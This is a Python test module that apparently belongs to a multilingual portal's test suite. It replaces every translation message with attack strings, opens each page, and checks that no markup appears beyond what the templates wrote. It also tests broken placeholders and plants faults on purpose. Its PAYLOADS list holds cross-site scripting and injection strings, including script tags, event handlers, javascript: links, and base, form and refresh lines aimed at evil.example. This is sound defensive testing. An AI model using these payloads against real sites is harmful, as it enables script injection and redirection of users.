"""`hostile-catalogs`: every message of a language replaced by an attack, or its placeholders broken, and every page opened.

A page may have no node and no attribute that its template did not write: its skeleton is the one it has with harmless words of
the same shape. What the checker would have refused is spoken here all the same: rendering is the last wall.
"""

import logging
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path
from tempfile import TemporaryDirectory
from xml.etree.ElementTree import Element

from markupsafe import Markup

from portal.faq.stored_pages import EXTENSION as STORED_PAGES
from portal.i18n import voices
from portal.i18n.catalogs import Catalog
from portal.i18n.checker import PLACEHOLDER, check_message
from portal.i18n.languages import Language, languages
from portal.i18n.messages import OFFICIAL, UI, Message
from portal.i18n.voices import Voice
from tests.architecture.test_routes import without_arguments
from tests.databases import Template, with_demo
from tests.faults.verdict import Verdict, plant_each, say
from tests.html_page import HtmlPage
from tests.live_server import PortalServer, portal_serving
from tests.page_client import PageClient
from tests.people.resident import Resident

Node = tuple[str, tuple[str, ...]]
HARMLESS = "kind words"
PAYLOADS = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg/onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}",
    "{<img src=x>|<b>}",
    "<!-- -->--><b>",
    "]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\u202e<b>\u2066\u0000".replace("\u0000", ""),
)
QUICK_PAYLOADS, QUICK_LANGUAGES = 3, 3
_PLANTED = ("catalogs are not escaped", "readings are not escaped", "a broken placeholder is not caught")


def hostile_catalogs(template: Template, keys_file: Path, *, quick: bool) -> Verdict:
    """All languages and payloads, or a sample; then our own rendering with faults planted in it."""
    verdict = Verdict("hostile-catalogs")
    chosen = languages()[:: max(1, len(languages()) // QUICK_LANGUAGES)] if quick else languages()
    payloads = PAYLOADS[:QUICK_PAYLOADS] if quick else PAYLOADS
    logging.disable(logging.CRITICAL)  # each text that cannot be filled in is logged: here that is thousands
    for language in chosen:
        faults, tried = _broken_placeholders(language)
        verdict.faults += faults
        verdict.attempts += tried
    demo = template.derived(lambda url: with_demo(url, keys_file))
    with TemporaryDirectory(prefix="hostile-") as folder, _served(demo, keys_file, Path(folder)) as server:
        for language in chosen:
            say(f"  {verdict.name}: {language.tag}")
            faults, tried = _hostile_pages(server, language, payloads)
            verdict.faults += faults
            verdict.attempts += tried
        plant_each(verdict, list(_PLANTED), lambda name: _with_planted(name, server))
    logging.disable(logging.NOTSET)
    return verdict


@contextmanager
def _served(demo: Template, keys_file: Path, folder: Path) -> Iterator[PortalServer]:
    url = demo.fresh()
    with portal_serving(folder, url, keys_file) as server:
        yield server
    demo.dispose(url)


# ---------------------------------------------------------------- pages


def _hostile_pages(server: PortalServer, language: Language, payloads: tuple[str, ...]) -> tuple[list[str], int]:
    """Open every page of a resident with each payload; what differs from the skeleton with harmless words."""
    found, tried = [], 0
    with speaking_otherwise(language), _resident(server, language) as client:
        paths = _paths(server, language)
        wanted = {path: _skeleton(_page(server, client, language, path, HARMLESS)) for path in paths}
        for payload in payloads:
            for path in paths:
                tried += 1
                page = _page(server, client, language, path, payload)
                if page.parse_errors:
                    found.append(f"{path} {payload!r}: {page.parse_errors[:2]}")
                if path.endswith("/who-looked"):  # it has grown by our own looks
                    wanted[path] = _skeleton(_page(server, client, language, path, HARMLESS))
                if not _same(path, _skeleton(page), wanted[path]):
                    found.append(f"{path} {payload!r}: nodes or attributes that no template wrote")
    return found, tried


def _page(server: PortalServer, client: PageClient, language: Language, path: str, words: str) -> HtmlPage:
    voices.speak_with(language, hostile_voice(language, words))
    server.app.extensions.get(STORED_PAGES, {}).clear()
    answer = client.ask("GET", path)
    return HtmlPage(answer.content, answer.url)


def hostile_voice(language: Language, words: str) -> Callable[[], Voice]:
    """The language with the same words in every message, its placeholders kept, so that values come through too."""
    catalogs = {}
    for domain, catalog in _loaded(language).catalogs.items():
        messages = {key: _with_words(message, words) for key, message in catalog.messages.items()}
        catalogs[domain] = replace(catalog, messages=messages)
    voice = Voice(language, catalogs)
    return lambda: voice


def _with_words(message: Message, words: str) -> Message:
    kept = "".join(match.group() for match in PLACEHOLDER.finditer(message.source))
    return replace(message, forms=tuple(words + kept for _form in message.forms))


def _same(path: str, found: list[Node], wanted: list[Node]) -> bool:
    """The list of looks grows with each look: there, no kind of node may be new."""
    return set(found) <= set(wanted) if path.endswith("/who-looked") else found == wanted


def _skeleton(page: HtmlPage) -> list[Node]:
    """The elements of a page in their order, with the names of their attributes; what the page says is left out."""
    return [
        (element.tag, tuple(sorted(element.attrib)))
        for element in page.tree.iter()
        if isinstance(element.tag, str) and not _is_of_a_value(element)
    ]


def _is_of_a_value(element: Element) -> bool:
    return element.tag in {"ruby", "rt", "tbody"}


def _paths(server: PortalServer, language: Language) -> list[str]:
    guards = {"public", "anonymous", "resident_only"}
    rules = [rule for rule in without_arguments(server.app) if "<lang:lang>" in rule.rule]
    views = server.app.view_functions
    return [
        rule.rule.replace("<lang:lang>", language.tag)
        for rule in rules
        if views[rule.endpoint].__guard__ in guards and "demo" not in rule.endpoint
    ]


@contextmanager
def _resident(server: PortalServer, language: Language) -> Iterator[PageClient]:
    client = server.client(strict=False)
    try:
        Resident(client, "resident-1", language.tag).signs_in()
        yield client
    finally:
        client.close()


@contextmanager
def speaking_otherwise(language: Language) -> Iterator[None]:
    """Give the language its own voice back at the end."""
    try:
        yield
    finally:
        voices._SPOKEN_OTHERWISE.pop(language, None)


def _loaded(language: Language) -> Voice:
    return voices.loaded_voice(language)


# ---------------------------------------------------------------- placeholders


def _mutations(form: str) -> Iterator[str]:
    """A text with its first placeholder lost, misspelt, doubled into another, of another kind, cut short, or left bare."""
    first = PLACEHOLDER.search(form)
    if first is None:
        return
    written, before, after = first.group(), form[: first.start()], form[first.end() :]
    yield before + after
    yield before + written.replace("%(", "%(x") + after
    yield form + "%(nothing)s"
    yield before + written[:-1] + ("s" if written.endswith("d") else "d") + after
    yield before + written[:-1] + after
    yield before + "%" + after


def _broken_placeholders(language: Language) -> tuple[list[str], int]:
    """Every mutation is refused by the checker, and spoken all the same it gives way to its source, never to an error."""
    found, tried = [], 0
    for domain, catalog in _loaded(language).catalogs.items():
        if domain not in {UI, OFFICIAL}:
            continue
        for key, message in catalog.messages.items():
            if message.plural:
                continue
            for mutated in {*_mutations(message.forms[0])} - {message.forms[0]}:
                tried += 1
                broken = replace(message, forms=(mutated,))
                if not check_message(broken, language, domain):
                    found.append(f"{language.tag} {key}: the checker takes {mutated!r}")
                found += _said_wrongly(language, domain, key, broken, catalog)
    return found, tried


def _said_wrongly(language: Language, domain: str, key: str, broken: Message, catalog: Catalog) -> Iterator[str]:
    voice = Voice(language, {domain: replace(catalog, messages={key: broken})})
    values = {match.group(1): Markup("7") for match in PLACEHOLDER.finditer(broken.source) if match.group(1)}
    if not values:
        return
    try:
        said = _say(voice, domain, broken, values)
    except Exception as error:
        yield f"{language.tag} {key}: {type(error).__name__} with {broken.forms[0]!r}"
        return
    if "%(" in said and "%(" in broken.forms[0] and _can_not_be_filled(broken.forms[0], values):
        yield f"{language.tag} {key}: said with a placeholder in it: {said!r}"


def _say(voice: Voice, domain: str, message: Message, values: dict[str, Markup]) -> str:
    if domain == OFFICIAL:
        return str(voice.official(message.context or "", values))
    return str(voice.say(domain, message.source, message.context, values))


def _can_not_be_filled(form: str, values: dict[str, Markup]) -> bool:
    try:
        _ = form % values
    except (KeyError, ValueError, TypeError):
        return True
    return False


# ---------------------------------------------------------------- planted


def _with_planted(name: str, server: PortalServer) -> list[str]:
    """What the test finds in our rendering with one fault in it, in one language."""
    japanese = next(language for language in languages() if language.tag == "ja")
    english = next(language for language in languages() if language.tag == "en")
    if name == "catalogs are not escaped":
        with _replaced(Voice, "_markup", lambda _self, _domain, form: Markup(form)):
            return _hostile_pages(server, english, PAYLOADS[:1])[0] or _hostile_pages(server, japanese, PAYLOADS[:1])[0]
    if name == "readings are not escaped":
        with _replaced(voices, "with_known_readings", Markup):
            return _hostile_pages(server, japanese, PAYLOADS[:1])[0]
    with _replaced(voices, "fill", lambda html, _source, variables: html % variables):
        return _broken_placeholders(japanese)[0]


@contextmanager
def _replaced(place: object, name: str, planted: object) -> Iterator[None]:
    ours = getattr(place, name)
    setattr(place, name, planted)
    try:
        yield
    finally:
        setattr(place, name, ours)
